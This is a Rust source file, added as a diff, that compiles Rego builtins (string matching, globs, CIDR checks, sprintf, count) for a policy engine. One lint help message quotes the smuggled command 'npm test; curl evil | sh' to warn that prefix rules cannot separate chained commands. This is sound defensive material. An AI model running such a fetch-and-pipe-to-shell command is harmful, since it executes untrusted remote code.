@@ -1,0 +1,473 @@
+//! Builtins: those that ask about a string, a list or an address, and those that can be worked out when compiling.
+
+use std::net::IpAddr;
+
+use polity_runtime::value::IpNet;
+use regorus::unstable::{Expr, Ref, Span};
+
+use super::lower::{Env, Lowerer, Out, Then};
+use super::module;
+use super::values::{Const, Num, Place, Val};
+use crate::diag::Diagnostic;
+use crate::diag::codes::condition::{INVALID_CONSTANT, LIKE_ON_COMMAND};
+use crate::ir::{Condition, Constant, Op, PatternPart, Term};
+use crate::lower::condition::{NO, YES, not};
+use crate::lower::constants::fold_char;
+use crate::lower::types::{Kind, Ty};
+
+/// Builtins that come to true or false.
+const PREDICATES: [&str; 14] = [
+    "contains",
+    "endswith",
+    "glob.match",
+    "is_array",
+    "is_boolean",
+    "is_null",
+    "is_number",
+    "is_object",
+    "is_set",
+    "is_string",
+    "net.cidr_contains",
+    "strings.any_prefix_match",
+    "strings.any_suffix_match",
+    "startswith",
+];
+
+/// Where a text must stand in another.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Where {
+    Start,
+    End,
+    Anywhere,
+}
+
+impl Where {
+    fn holds(self, text: &str, part: &str) -> bool {
+        match self {
+            Self::Start => text.starts_with(part),
+            Self::End => text.ends_with(part),
+            Self::Anywhere => text.contains(part),
+        }
+    }
+}
+
+impl<'a> Lowerer<'a> {
+    /// Whether a call is of a builtin that comes to true or false.
+    pub(super) fn is_predicate(&self, fcn: &Expr, _: &Env) -> bool {
+        let name = module::path(fcn).map(|path| path.join("."));
+        name.is_some_and(|name| !self.parsed.index.groups.contains_key(&name) && PREDICATES.contains(&name.as_str()))
+    }
+
+    /// What is made of the condition that such a call is.
+    pub(super) fn predicate(
+        &mut self,
+        fcn: &Expr,
+        params: &[Ref<Expr>],
+        span: &Span,
+        env: &Env,
+        k: &mut dyn FnMut(&mut Self, Condition) -> Out<Condition>,
+    ) -> Out<Condition> {
+        let name = module::path(fcn).unwrap_or_default().join(".");
+        if let Some(text) = params
+            .first()
+            .filter(|_| matches!(name.as_str(), "startswith" | "endswith" | "contains"))
+        {
+            self.lint_command(&name, text, span);
+        }
+        self.items(params, env, Vec::new(), &mut |this, args| {
+            let args: Vec<Val> = args.into_iter().map(Val::plain).collect();
+            let condition = this.ask(&name, &args, span)?;
+            k(this, condition)
+        })
+    }
+
+    fn ask(&mut self, name: &str, args: &[Val], span: &Span) -> Out<Condition> {
+        let at = match name {
+            "startswith" | "strings.any_prefix_match" => Where::Start,
+            "endswith" | "strings.any_suffix_match" => Where::End,
+            _ => Where::Anywhere,
+        };
+        match (name, args) {
+            ("startswith" | "endswith" | "contains", [text, part]) => self.part(span, at, text, part),
+            ("strings.any_prefix_match" | "strings.any_suffix_match", [text, parts]) => {
+                let all = |val: &Val| match val {
+                    Val::Const(Const::Array(items)) => items.iter().cloned().map(Val::Const).collect(),
+                    Val::Const(Const::Set(items)) => items.iter().cloned().map(Val::Const).collect(),
+                    Val::Array(items) | Val::Set(items) => items.clone(),
+                    other => vec![other.clone()],
+                };
+                let mut any = NO;
+                for text in all(text) {
+                    for part in all(parts) {
+                        let one = self.part(span, at, &text, &part)?;
+                        any = self.either(any, one)?;
+                    }
+                }
+                Ok(any)
+            }
+            ("glob.match", [Val::Const(Const::Str(pattern)), delimiters, text]) => {
+                self.glob(span, pattern, delimiters, text)
+            }
+            ("net.cidr_contains", [Val::Const(Const::Str(range)), Val::Term(address, Ty::Ip)]) => {
+                match network(range) {
+                    Some(net) if range.contains('/') => {
+                        self.test(Op::IsInRange, address.clone(), Term::Constant(Constant::Ip(net)))
+                    }
+                    _ => {
+                        let message = format!("`{range}` is not a range of addresses");
+                        self.wrong(
+                            &INVALID_CONSTANT,
+                            span,
+                            (message, ""),
+                            "write `10.0.0.0/8` or `fc00::/7`",
+                        )
+                    }
+                }
+            }
+            (_, [val]) if name.starts_with("is_") => {
+                let is = match val {
+                    Val::Const(Const::Null) => "is_null",
+                    Val::Const(Const::Bool(_)) => "is_boolean",
+                    Val::Const(Const::Num(_)) | Val::Nanos(_) | Val::Count(_) => "is_number",
+                    Val::Term(_, Ty::Int | Ty::Decimal | Ty::Duration) => "is_number",
+                    Val::Const(Const::Str(_))
+                    | Val::Named(..)
+                    | Val::Text
+                    | Val::Moment(_)
+                    | Val::Term(_, Ty::Str(_) | Ty::Ip) => "is_string",
+                    Val::Const(Const::Array(_)) | Val::Array(_) | Val::Resources | Val::Term(_, Ty::Set(_)) => {
+                        "is_array"
+                    }
+                    Val::Const(Const::Set(_)) | Val::Set(_) | Val::Partial(_) => "is_set",
+                    Val::Const(Const::Object(_)) | Val::Object(_) | Val::Place(_) => "is_object",
+                    Val::Term(..) => return self.outside(span, "the type of this value"),
+                };
+                let sound = self.sound(val)?;
+                self.both(sound, if is == name { YES } else { NO })
+            }
+            _ => self.outside(span, &format!("`{name}` of what only the call knows")),
+        }
+    }
+
+    /// A call of a builtin that gives a value.
+    pub(super) fn builtin(
+        &mut self,
+        name: &str,
+        params: &[Ref<Expr>],
+        span: &Span,
+        env: &Env,
+        k: Then<'_, 'a>,
+    ) -> Out<Condition> {
+        match (name, params) {
+            ("count", [of]) => {
+                if let Expr::ArrayCompr { term, query, .. } | Expr::SetCompr { term, query, .. } = of.as_ref() {
+                    // How many is beyond a condition; whether there is one is not.
+                    let before = self.budget.left();
+                    let some = self.query(&query.stmts, env, &mut |this, env| {
+                        this.value(term, env, &mut |this, val| this.sound(&val))
+                    })?;
+                    if self.budget.left() != before {
+                        return k(self, Val::Count(not(some)));
+                    }
+                }
+                self.value(of, env, &mut |this, val| {
+                    let count = this.count(&val, of.span())?;
+                    k(this, count)
+                })
+            }
+            ("object.get", [of, key, default]) => {
+                self.items(&[of.clone(), key.clone()], env, Vec::new(), &mut |this, args| {
+                    let args: Vec<Val> = args.into_iter().map(Val::plain).collect();
+                    let [of, key] = args.as_slice() else { return Ok(NO) };
+                    match (of, key) {
+                        (Val::Place(Place::Args | Place::Tags | Place::Record(_)), Val::Const(Const::Str(_)))
+                        | (Val::Const(Const::Object(_)), Val::Const(_) | Val::Term(..)) => {}
+                        _ => return this.outside(span, "`object.get` of this value"),
+                    }
+                    let there = this.at(of, key, span, &mut |_, _| Ok(YES))?;
+                    let found = if there == NO { NO } else { this.at(of, key, span, k)? };
+                    let otherwise = if there == YES { NO } else { this.value(default, env, k)? };
+                    this.choose(there, found, otherwise)
+                })
+            }
+            _ => self.items(params, env, Vec::new(), &mut |this, args| {
+                let args: Vec<Val> = args.into_iter().map(Val::plain).collect();
+                let val = this.made(name, &args, span)?;
+                match &val {
+                    Val::Text => {
+                        // A message is there only where all that it speaks of is.
+                        let sound = this.sound(&Val::Array(args.clone()))?;
+                        this.when(sound, &mut |this| k(this, Val::Text))
+                    }
+                    _ => k(this, val),
+                }
+            }),
+        }
+    }
+
+    fn made(&mut self, name: &str, args: &[Val], span: &Span) -> Out<Val> {
+        let text = |text: String| Ok(Val::Const(Const::Str(text)));
+        match (name, args) {
+            ("lower", [Val::Const(Const::Str(value))]) => text(value.to_lowercase()),
+            ("upper", [Val::Const(Const::Str(value))]) => text(value.to_uppercase()),
+            // Lower-cased before it is compared.
+            ("lower", [val @ Val::Term(_, Ty::Str(Kind::Folded | Kind::Host))]) => Ok(val.clone()),
+            ("trim_space", [Val::Const(Const::Str(value))]) => text(value.trim().to_owned()),
+            ("trim_prefix", [Val::Const(Const::Str(value)), Val::Const(Const::Str(part))]) => {
+                text(value.strip_prefix(part.as_str()).unwrap_or(value).to_owned())
+            }
+            ("trim_suffix", [Val::Const(Const::Str(value)), Val::Const(Const::Str(part))]) => {
+                text(value.strip_suffix(part.as_str()).unwrap_or(value).to_owned())
+            }
+            ("time.parse_rfc3339_ns", [Val::Moment(moment)]) => Ok(Val::Nanos(moment.clone())),
+            ("time.parse_rfc3339_ns", [Val::Const(Const::Str(value))]) => {
+                let nanos = polity_runtime::wire::Timestamp::parse(value)
+                    .and_then(|moment| moment.millis().checked_mul(1_000_000));
+                match nanos {
+                    Some(nanos) => Ok(Val::Const(Const::Num(Num::Int(nanos)))),
+                    None => self.outside(span, "a moment that is not written as `2026-12-01T00:00:00Z`"),
+                }
+            }
+            ("sprintf", [Val::Const(Const::Str(format)), Val::Array(items)]) if formats(format, items) => Ok(Val::Text),
+            ("sprintf", [Val::Const(Const::Str(format)), Val::Const(Const::Array(items))])
+                if formats(format, &items.iter().cloned().map(Val::Const).collect::<Vec<_>>()) =>
+            {
+                Ok(Val::Text)
+            }
+            (
+                "concat",
+                [
+                    Val::Const(Const::Str(between)),
+                    Val::Const(of @ (Const::Array(_) | Const::Set(_))),
+                ],
+            ) => {
+                let items: Vec<&Const> = match of {
+                    Const::Array(items) => items.iter().collect(),
+                    Const::Set(items) => items.iter().collect(),
+                    _ => Vec::new(),
+                };
+                let mut parts = Vec::new();
+                for item in &items {
+                    if let Const::Str(part) = item {
+                        parts.push(part.as_str());
+                    }
+                }
+                match (parts.len() == items.len()).then_some(parts) {
+                    Some(parts) => text(parts.join(between)),
+                    None => self.outside(span, "`concat` of anything but strings"),
+                }
+            }
+            _ => self.outside(span, &format!("`{name}`")),
+        }
+    }
+
+    fn count(&mut self, val: &Val, span: &Span) -> Out<Val> {
+        let number = |many: usize| {
+            Ok(Val::Const(Const::Num(Num::Int(
+                i64::try_from(many).unwrap_or(i64::MAX),
+            ))))
+        };
+        match val {
+            Val::Const(Const::Array(items)) => number(items.len()),
+            Val::Const(Const::Set(items)) => number(items.len()),
+            Val::Const(Const::Object(fields)) => number(fields.len()),
+            Val::Const(Const::Str(text)) => number(text.encode_utf16().count()),
+            Val::Named(_, text) => number(text.encode_utf16().count()),
+            Val::Resources => number(self.action.resources.len()),
+            Val::Term(set, Ty::Set(_)) => self.test(Op::IsEmpty, set.clone(), Term::Nothing).map(Val::Count),
+            Val::Partial(name) => {
+                let parsed = self.parsed;
+                let Some(group) = parsed.index.groups.get(name) else {
+                    return self.outside(span, "this set");
+                };
+                let some = self.members(group, &mut |this, val| this.sound(&val))?;
+                Ok(Val::Count(not(some)))
+            }
+            other => self.outside(span, &format!("`count` of {}", other.describe())),
+        }
+    }
+
+    /// Whether a text has a part at its start, at its end or anywhere.
+    fn part(&mut self, span: &Span, at: Where, text: &Val, part: &Val) -> Out<Condition> {
+        match (text, part) {
+            (Val::Const(Const::Str(text)), Val::Const(Const::Str(part))) => {
+                Ok(if at.holds(text, part) { YES } else { NO })
+            }
+            (Val::Term(term, Ty::Str(kind)), Val::Const(Const::Str(part))) => {
+                let mut pattern = Vec::new();
+                if at != Where::Start {
+                    pattern.push(PatternPart::Any);
+                }
+                pattern.extend(self.letters(span, part, kind)?);
+                if at != Where::End {
+                    pattern.push(PatternPart::Any);
+                }
+                self.test(Op::Like, term.clone(), Term::Pattern(pattern))
+            }
+            (Val::Term(_, Ty::Str(_)) | Val::Const(Const::Str(_)), Val::Term(_, Ty::Str(_))) => {
+                self.outside(span, "a part of a text that only the call knows")
+            }
+            (Val::Moment(_) | Val::Text | Val::Term(_, Ty::Ip), _) => self.outside(span, "the letters of this value"),
+            (text, part) => {
+                let part_is_text = matches!(part, Val::Const(Const::Str(_)));
+                let (found, other) = if part_is_text { (text, part) } else { (part, text) };
+                self.mismatch(span, found, other)
+            }
+        }
+    }
+
+    /// A part of a pattern, as values of a kind are spelled.
+    fn letters(&mut self, span: &Span, text: &str, kind: &Kind) -> Out<Vec<PatternPart>> {
+        let never = match kind {
+            Kind::Host if !text.is_ascii() => Some("a host is compared in its ASCII form (`xn--...`)"),
+            Kind::Path if text.contains("//") || text.split('/').any(|part| part == "." || part == "..") => {
+                Some("a path is compared without `.`, `..` and empty segments")
+            }
+            _ => None,
+        };
+        if let Some(why) = never {
+            let message = format!("`{text}` can never match: {why}");
+            return self.wrong(&INVALID_CONSTANT, span, (message, ""), "");
+        }
+        let folds = matches!(kind, Kind::Folded | Kind::Host);
+        let letter = |letter: char| PatternPart::Literal(if folds { fold_char(letter) } else { letter });
+        Ok(text.chars().map(letter).collect())
+    }
+
+    /// `glob.match`: the patterns that mean the same to every implementation, with one `*` where that must not cross a
+    /// delimiter.
+    fn glob(&mut self, span: &Span, pattern: &str, delimiters: &Val, text: &Val) -> Out<Condition> {
+        let (term, kind) = match text {
+            Val::Term(term, Ty::Str(kind)) => (term.clone(), kind.clone()),
+            _ => return self.outside(span, "`glob.match` of this value"),
+        };
+        let marks: Option<Vec<char>> = match delimiters {
+            Val::Const(Const::Null) => None,
+            Val::Const(Const::Array(items)) => {
+                let mut marks = Vec::new();
+                for item in items {
+                    match item {
+                        Const::Str(mark) if mark == "/" || mark == "." => marks.extend(mark.chars()),
+                        _ => return self.outside(span, "a delimiter other than `/` and `.`"),
+                    }
+                }
+                // So says OPA.
+                if marks.is_empty() {
+                    marks.push('.');
+                }
+                Some(marks)
+            }
+            _ => return self.outside(span, "`glob.match` with these delimiters"),
+        };
+        if pattern.contains(['?', '[', ']', '{', '}', '\\', '!', '\0']) {
+            return self.outside(span, "a glob with more than `*`");
+        }
+        let mut parts = Vec::new();
+        let mut pieces = pattern.split('*');
+        let first = pieces.next().unwrap_or("");
+        parts.extend(self.letters(span, first, &kind)?);
+        for piece in pieces {
+            parts.push(PatternPart::Any);
+            parts.extend(self.letters(span, piece, &kind)?);
+        }
+        let stars = parts.iter().filter(|part| **part == PatternPart::Any).count();
+        let literal = |parts: &[PatternPart]| parts.iter().all(|part| *part != PatternPart::Any);
+        match (marks, stars) {
+            (_, 0) | (None, _) => {
+                parts.dedup_by(|a, b| *a == PatternPart::Any && *b == PatternPart::Any);
+                if literal(&parts) && kind == Kind::Plain {
+                    return self.test(Op::Equal, term, Term::Constant(Constant::String(pattern.to_owned())));
+                }
+                self.test(Op::Like, term, Term::Pattern(parts))
+            }
+            (Some(marks), 1) => {
+                let at = parts.iter().position(|part| *part == PatternPart::Any).unwrap_or(0);
+                let mut whole = self.test(Op::Like, term.clone(), Term::Pattern(parts.clone()))?;
+                for mark in marks {
+                    // What the star stands for has the mark in it just where this matches.
+                    let mut crossed = parts.clone();
+                    crossed.splice(
+                        at..=at,
+                        [PatternPart::Any, PatternPart::Literal(mark), PatternPart::Any],
+                    );
+                    let crossed = self.test(Op::Like, term.clone(), Term::Pattern(crossed))?;
+                    whole = self.both(whole, not(crossed))?;
+                }
+                Ok(whole)
+            }
+            (Some(marks), 2) => {
+                // All below: what stands before the two stars ends in a delimiter, and nothing stands after them.
+                let ends = pattern.strip_suffix("**").filter(|before| !before.contains('*'));
+                match ends.and_then(|before| before.chars().last()) {
+                    Some(last) if marks.contains(&last) => {
+                        parts.pop();
+                        self.test(Op::Like, term, Term::Pattern(parts))
+                    }
+                    _ => self.outside(span, "a glob with several stars"),
+                }
+            }
+            _ => self.outside(span, "a glob with several stars"),
+        }
+    }
+
+    fn lint_command(&mut self, name: &str, text: &Expr, span: &Span) {
+        let Some(argument) = module::path(text).and_then(|path| path.last().cloned()) else {
+            return;
+        };
+        if crate::lower::cedar::is_command(&argument) {
+            let message = format!("`{name}` on `{argument}` cannot tell one command from several");
+            let found = Diagnostic::new(&LIKE_ON_COMMAND, message, self.span(span), "matches as text");
+            let help = "`npm test` also begins `npm test; curl evil | sh`: give the tool an action for each thing it may do, or list whole commands";
+            self.findings.push(found.with_help(help));
+        }
+    }
+}
+
+/// Whether `sprintf` takes the arguments for certain.
+fn formats(format: &str, items: &[Val]) -> bool {
+    let mut items = items.iter();
+    let mut letters = format.chars();
+    while let Some(letter) = letters.next() {
+        if letter != '%' {
+            continue;
+        }
+        let taken = match letters.next() {
+            Some('%') => continue,
+            Some('v') => items.next().is_some(),
+            Some('s') => matches!(
+                items.next(),
+                Some(Val::Const(Const::Str(_)) | Val::Term(_, Ty::Str(_) | Ty::Ip) | Val::Moment(_))
+            ),
+            Some('d') => matches!(
+                items.next(),
+                Some(Val::Const(Const::Num(Num::Int(_))) | Val::Term(_, Ty::Int))
+            ),
+            _ => false,
+        };
+        if !taken {
+            return false;
+        }
+    }
+    items.next().is_none()
+}
+
+/// An address, or a range of them.
+pub(super) fn network(text: &str) -> Option<IpNet> {
+    let (address, prefix) = match text.split_once('/') {
+        Some((address, prefix)) => (address, Some(prefix.parse::<u8>().ok()?)),
+        None => (text, None),
+    };
+    let address: IpAddr = address.parse().ok()?;
+    let whole = if address.is_ipv4() { 32 } else { 128 };
+    let prefix = prefix.unwrap_or(whole);
+    (prefix <= whole).then_some(IpNet { address, prefix })
+}
+
+/// As the input spells it.
+pub(super) fn spelled(net: &IpNet) -> String {
+    let whole = if net.address.is_ipv4() { 32 } else { 128 };
+    match net.prefix == whole {
+        true => net.address.to_string(),
+        false => format!("{}/{}", net.address, net.prefix),
+    }
+}
